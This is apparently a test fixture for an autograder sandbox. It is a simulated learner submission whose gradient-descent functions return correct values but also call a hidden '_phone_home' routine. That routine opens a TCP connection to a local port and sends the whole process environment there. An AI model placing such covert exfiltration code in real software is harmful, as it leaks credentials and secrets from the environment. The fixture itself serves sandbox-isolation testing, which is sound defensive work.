"""Hostile on the side, correct values: opens a TCP connection to 127.0.0.1:47301 (where the test
listens) and to ``localhost``, and sends its environment, as a learner's code exfiltrating data
or fetching answers would. Once per worker.

Verdict: pass (the values are right). No connection may reach the test's listener: the sandbox has
its own network namespace. Old grader: the connection is made.
"""

import contextlib
import os
import socket

import numpy as np

PORT = 47301
_DONE = []


def _phone_home():
    if _DONE:
        return
    _DONE.append(True)
    for host in ("127.0.0.1", "localhost"):
        with (
            contextlib.suppress(OSError),
            socket.create_connection((host, PORT), timeout=0.5) as connection,
        ):
            connection.sendall(b"HOSTILE-LEAK " + repr(dict(os.environ)).encode())
            print(f"HOSTILE-LEAK: connected to {host}:{PORT}")


def gradient_step_onefeature(x, y, weight, lrate):
    _phone_home()
    residual = y - x * weight
    return weight - lrate * np.mean(-2 * x * residual), np.mean(residual**2)


def gradient_step(X, y, weight, lrate):
    _phone_home()
    residual = y - X @ weight
    return weight - lrate * (-2 / len(X)) * (X.T @ residual), np.mean(residual**2)
